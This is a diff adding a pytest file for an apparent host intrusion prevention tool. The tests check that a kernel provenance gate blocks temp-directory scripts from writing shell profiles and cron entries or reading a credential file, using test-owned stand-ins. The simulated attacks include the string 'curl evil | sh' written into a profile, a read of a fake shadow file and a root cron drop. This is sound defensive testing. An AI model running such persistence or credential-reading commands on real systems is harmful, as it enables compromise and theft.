@@ -1,0 +1,238 @@
+"""Issue 15: the must-stop file acts of an untrusted tree refused at the open (compat
+tier), not killed after.  The kernel's provenance map (bpf/lib/prov.h, set at exec,
+inherited at fork, dropped at exit) read by the fanotify provenance gate.
+
+Scope: the "temp dir" the provenance map names is the test's own ``drop`` directory;
+the gate marks only the test's own "persistence" and "credential" files; the gate is
+scoped to the test cgroup with a dead-man deadline.  Before the gate, every attack
+below did its act (the compat tier killed after the syscall: docs/detection.md)."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import tempfile
+import time
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+
+from bastion import abi
+from bastion.enforce.provgate import GateObject, ProvenanceGate
+from bastion.events import HipsEvent
+from bastion.sensors.bpf import BpfSensor
+from bastion.sensors.provenance import ProvenanceMap, default_interpreters
+from support.cg import run_in, scoped_cgroup
+
+DEADLINE_S = 90.0
+TIMEOUT = 20
+
+
+class Env:
+    def __init__(self, root: Path, cg: Path, prov: ProvenanceMap, gate: ProvenanceGate) -> None:
+        self.root, self.cg, self.prov, self.gate = root, cg, prov, gate
+        self.drop = root / "drop"
+        self.profile = root / "home" / ".bashrc"
+        self.cron = root / "cron.d"
+        self.secret = root / "creds" / "shadow"
+
+    def run(self, argv: list[str], **kw: object) -> subprocess.CompletedProcess[str]:
+        return run_in(self.cg, argv, timeout=TIMEOUT, **kw)
+
+    def script(self, name: str, body: str, *, shebang: bool = False) -> Path:
+        p = self.drop / name
+        p.write_text(("#!/bin/sh\n" if shebang else "") + body)
+        p.chmod(0o755)
+        return p
+
+    def events(self, n: int = 1, timeout_s: float = 3.0) -> list[HipsEvent]:
+        out: list[HipsEvent] = []
+        end = time.monotonic() + timeout_s
+        while len(out) < n and time.monotonic() < end:
+            out += self.gate.poll(0.1)
+        return out
+
+
+@pytest.fixture
+def env() -> Iterator[Env]:
+    # a short root: the prefixes of the provenance map are at most 63 bytes
+    tmp_path = Path(tempfile.mkdtemp(prefix="bprov-"))
+    try:
+        yield from _env(tmp_path)
+    finally:
+        shutil.rmtree(tmp_path)
+
+
+def _env(tmp_path: Path) -> Iterator[Env]:
+    for d in ("drop", "home", "cron.d", "creds"):
+        (tmp_path / d).mkdir()
+    (tmp_path / "home" / ".bashrc").write_text("# profile\n")
+    (tmp_path / "cron.d" / "job").write_text("# cron\n")
+    (tmp_path / "creds" / "shadow").write_text("root:$6$secret:1:0:99999:7:::\n")
+    with scoped_cgroup() as (cg, cgid):
+        sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
+        sensor.open()
+        try:
+            prov = sensor.provenance()
+            prov.set_dirs([str(tmp_path / "drop")])
+            assert prov.set_interpreters(default_interpreters()) >= 1
+            gate = ProvenanceGate(prov, scope_cgroup_id=cgid, deadline_s=DEADLINE_S,
+                                  decision_timeout_s=0.5, self_tgid=os.getpid())
+            try:
+                gate.start()
+                assert gate.apply([
+                    GateObject(str(tmp_path / "home" / ".bashrc"), "persistence"),
+                    GateObject(str(tmp_path / "cron.d"), "persistence"),
+                    GateObject(str(tmp_path / "creds" / "shadow"), "credential"),
+                ]) == []
+                yield Env(tmp_path, cg, prov, gate)
+            finally:
+                gate.close()
+        finally:
+            sensor.close()
+
+
+PROFILE = "# profile\n"
+
+
+def test_tmp_script_appending_to_a_profile_as_its_last_step_is_refused(env: Env) -> None:
+    p = env.script("payload.sh", f"echo 'curl evil | sh' >> {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode != 0
+    assert "Operation not permitted" in r.stderr
+    assert env.profile.read_text() == PROFILE
+    evs = env.events()
+    assert [(e.action, e.op, e.path, e.enforced) for e in evs] == [
+        ("deny", "open-write", str(env.profile), True)]
+    (d,) = env.gate.decisions()
+    assert d.reasons == ("tmp-script",) and d.prevented.startswith("write to persistence object")
+
+
+def test_tmp_script_reading_a_credential_store_gets_eperm(env: Env) -> None:
+    p = env.script("hunt.sh", f"cat {env.secret}\n")
+    r = env.run(["/bin/bash", str(p)])
+    assert r.returncode != 0 and "secret" not in r.stdout
+    assert "Operation not permitted" in r.stderr
+    evs = env.events()
+    assert [(e.action, e.op, e.path) for e in evs] == [("deny", "open-read", str(env.secret))]
+
+
+def test_shebang_script_run_by_path_and_a_cron_drop_are_refused(env: Env) -> None:
+    p = env.script("drop.sh", f"echo '* * * * * root sh /tmp/x' > {env.cron}/evil\n",
+                   shebang=True)
+    r = env.run([str(p)])
+    assert r.returncode != 0
+    # O_CREAT in a marked directory: refused at the open, the empty file stays (fanotify
+    # decides opens, not creates: docs/threat-model.md); nothing was written into it
+    assert (env.cron / "evil").read_text() == "" if (env.cron / "evil").exists() else True
+    assert any(e.action == "deny" and e.path == str(env.cron / "evil") for e in env.events())
+
+
+def test_a_fork_chain_inherits(env: Env) -> None:
+    p = env.script("chain.sh", "sh -c \"(sleep 0.1; echo x >> " + str(env.profile)
+                   + ") & wait\"\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert "Operation not permitted" in r.stderr
+    assert env.profile.read_text() == PROFILE
+    assert [e.action for e in env.events()] == ["deny"]
+
+
+def test_an_admin_non_interactive_shell_is_allowed(env: Env) -> None:
+    r = env.run(["/bin/sh", "-c", f"echo admin >> {env.profile}; cat {env.secret}"])
+    assert r.returncode == 0, r.stderr
+    assert env.profile.read_text() == PROFILE + "admin\n" and "secret" in r.stdout
+    assert env.events(timeout_s=0.5) == []
+
+
+def test_a_trusted_tool_by_inode_is_allowed_and_a_renamed_copy_in_tmp_is_not(env: Env) -> None:
+    tee = shutil.which("tee")
+    assert tee
+    r = env.run(["/bin/sh", "-c", f"echo ok | {tee} -a {env.profile}"])
+    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "ok\n"
+    fake = env.drop / "crontab"       # a trusted tool's name, the dropper's copy
+    shutil.copy2(tee, fake)
+    r = env.run(["/bin/sh", "-c", f"echo evil | {fake} -a {env.profile}"])
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"
+    (d,) = [d for d in env.gate.decisions() if d.action == "deny"]
+    assert d.reasons == ("tmp-binary",)
+    # the real tool run by a /tmp script is the script's tree: refused too (chosen)
+    p = env.script("viatool.sh", f"echo evil | {tee} -a {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"
+
+
+def test_reads_of_a_persistence_object_stay_allowed(env: Env) -> None:
+    p = env.script("reader.sh", f"cat {env.profile}\n")
+    r = env.run(["/bin/sh", str(p)])
+    assert r.returncode == 0 and r.stdout == PROFILE
+
+
+def _spawn_waiting(env: Env, script: Path) -> subprocess.Popen[str]:
+    """A shell in the test cgroup that runs ``script`` once told to (stdin line)."""
+    shell = f'echo $$ > {env.cg}/cgroup.procs && read go && /bin/sh {script}'
+    return subprocess.Popen(["/bin/sh", "-c", shell], stdin=subprocess.PIPE, text=True,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+
+def _start_ns(pid: int) -> int:
+    from bastion.kernel.opener import stat_ppid_start
+    return stat_ppid_start(pid)[1]
+
+
+@pytest.mark.parametrize("extra,allowed", [(0, True), (abi.PROV_NETWORK_BINARY, False)])
+def test_the_admin_session_bit_exempts_only_local_reasons(env: Env, extra: int,
+                                                          allowed: bool) -> None:
+    p = env.script("mine.sh", f"echo by-hand >> {env.profile}\n")
+    proc = _spawn_waiting(env, p)
+    try:
+        time.sleep(0.2)
+        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_ADMIN_TTY | extra)
+        out, err = proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert (env.profile.read_text() == PROFILE + "by-hand\n") is allowed, err
+    evs = env.events()
+    assert [e.action for e in evs] == (["audit"] if allowed else ["deny"])
+
+
+def test_a_reason_filled_from_user_space_applies_to_the_next_open(env: Env) -> None:
+    """network-binary/network-service/decoded-payload come from the agent: the map
+    entry it writes is read by the very next decision (the race is the agent's lag)."""
+    p = env.script("later.sh", "true\n")   # only to have a script; the shell is clean
+    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && read go '
+                             f'&& echo fetched >> {env.profile}'],
+                            stdin=subprocess.PIPE, text=True, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    try:
+        time.sleep(0.2)
+        assert env.prov.get(proc.pid) is None
+        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_DECODED_PAYLOAD)
+        _out, err = proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert p.exists() and "Operation not permitted" in err
+    assert env.profile.read_text() == PROFILE
+
+
+def test_the_entry_lives_as_long_as_the_process(env: Env) -> None:
+    p = env.script("pid.sh", "echo $$; read go\n")
+    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && exec /bin/sh {p}'],
+                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout is not None
+        pid = int(proc.stdout.readline())
+        val = env.prov.get(pid)
+        assert val is not None and val.reasons == abi.PROV_TMP_SCRIPT
+        assert val.origin_tgid == pid and val.start_ns > 0
+        proc.communicate("go\n", timeout=TIMEOUT)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert env.prov.get(pid) is None     # dropped at exit: a reused pid inherits nothing
